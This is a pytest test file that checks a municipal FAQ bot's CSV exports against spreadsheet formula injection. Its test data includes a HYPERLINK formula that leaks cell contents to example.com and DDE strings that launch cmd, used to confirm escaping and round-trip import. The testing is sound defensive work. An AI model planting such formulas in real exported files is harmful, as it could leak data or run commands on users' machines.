"""Every CSV the product writes is safe to open in a spreadsheet (issue 14, item 4).

A cell that starts with = + - @ (or ＝ ＋ － ＠), a tab or a CR gets a `'` in front (OWASP "CSV
Injection"); numbers stay numbers; one writer, bot.csvsafe, is used everywhere.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from flask import Flask

from bot.csvsafe import escape_cell, needs_escape, unescape_cell
from bot.db import get_db
from faq.models import FaqEntry
from faq.store import export_csv
from kpi.report import Table
from tests.test_faq_workbench import CITY, fast_hashing, kb_app, staff  # noqa: F401 - fixtures

ROOT = Path(__file__).resolve().parent.parent
ATTACKS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"詳しくはこちら")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝１＋１",
    "＋81 90 1234 5678",
    "－2＋3",
    "＠SUM(1)",
    "- 持ち物：本人確認書類",
    "'=1+1",
    "''@x",
]
HARMLESS = ["住民票はコンビニで取れます", "-2", "+3.5", "-1,000", "0120-123-456", "'引用", "a=b", "メール taro@example.com",
            "", "2026-12-04", "1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_escaped_and_can_be_read_back(text: str) -> None:
    escaped = escape_cell(text)
    assert escaped == "'" + text and needs_escape(text)
    assert unescape_cell(escaped) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_are_written_as_they_are(text: str) -> None:
    assert escape_cell(text) == text and unescape_cell(text) == text


def test_values_that_are_not_text_are_left_to_csv() -> None:
    for value in (-2, -2.5, None, dt.date(2026, 12, 4)):
        assert escape_cell(value) is value


def test_no_csv_writer_of_the_product_bypasses_bot_csvsafe() -> None:
    writers = []
    for package in ("bot", "handlers", "faq", "segments", "broadcast", "kpi"):
        for path in sorted((ROOT / package).rglob("*.py")):
            if path.relative_to(ROOT).as_posix() == "bot/csvsafe.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
                        and isinstance(node.value, ast.Name) and node.value.id == "csv"):
                    writers.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert writers == [], "write CSV through bot.csvsafe.writer"


def _add_attack_entry(app: Flask) -> None:
    with get_db(app).session() as s:
        s.add(FaqEntry(municipality=CITY, entry_id="zz-attack", category="=cmd|' /C calc'!A0", title="@SUM(1+1)",
                       question=ATTACKS[1], alternates=["-2+3", "ふつうの言い換え"], keywords=["=1+1"], answer=ATTACKS[0],
                       source="+出典", origin="import", reviewed_at=dt.date(2026, 12, 4)))
        s.commit()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_faq_export_escapes_formula_cells_in_both_formats(kb_app: Flask) -> None:
    _add_attack_entry(kb_app)
    faq = staff(kb_app, "yamada", "faq")
    project = _cells(faq.get("/admin/faq/export?format=project").get_data(as_text=True))
    header, row = project[0], next(r for r in project if r[0] == "zz-attack")
    cells = dict(zip(header, row, strict=True))
    assert cells["category"] == "'=cmd|' /C calc'!A0" and cells["title"] == "'@SUM(1+1)"
    assert cells["question"] == "'" + ATTACKS[1] and cells["answer"] == "'" + ATTACKS[0]
    assert cells["alternates"] == "'-2+3|ふつうの言い換え" and cells["keywords"] == "'=1+1" and cells["source"] == "'+出典"
    assert not [c for r in project for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    kosodate = _cells(faq.get("/admin/faq/export?format=kosodate").get_data(as_text=True))
    row = next(r for r in kosodate if r[0] == "zz-attack")
    assert row[1:] == ["'" + ATTACKS[1], "'" + ATTACKS[0], "'=cmd|' /C calc'!A0"]
    # What the export wrote is exactly what is stored, once each cell is unescaped.
    downloaded = faq.get("/admin/faq/export").get_data(as_text=True).lstrip("\ufeff")
    with get_db(kb_app).session() as s:
        stored = s.query(FaqEntry).filter_by(municipality=CITY, entry_id="zz-attack").one()
        assert unescape_cell(cells["answer"]) == stored.answer and unescape_cell(cells["alternates"]).split("|") == stored.alternates
        assert export_csv(s, CITY) == downloaded


def test_the_import_reads_back_the_export_of_formula_cells(kb_app: Flask, tmp_path: Path) -> None:
    _add_attack_entry(kb_app)
    with get_db(kb_app).session() as s:
        out = tmp_path / "export.csv"
        out.write_text(export_csv(s, CITY), encoding="utf-8")
        before = s.query(FaqEntry).filter_by(municipality=CITY, entry_id="zz-attack").one()
        expected = (before.answer, before.question, before.title, before.alternates)
    result = kb_app.test_cli_runner().invoke(args=["faq", "import", str(out)])
    assert result.exit_code == 0, result.output
    with get_db(kb_app).session() as s:
        after = s.query(FaqEntry).filter_by(municipality=CITY, entry_id="zz-attack").one()
        assert (after.answer, after.question, after.title, after.alternates) == expected


def test_kpi_tables_escape_text_and_keep_numbers() -> None:
    table = Table("t", "表", ("=列", "件数"), [("=HYPERLINK(1)", -2.0), ("-2+3", 5), ("@SUM(1)", None), ("ふつう", -1)])
    rows = _cells(table.csv_text())
    assert rows == [["'=列", "件数"], ["'=HYPERLINK(1)", "-2.00"], ["'-2+3", "5"], ["'@SUM(1)", ""], ["ふつう", "-1"]]
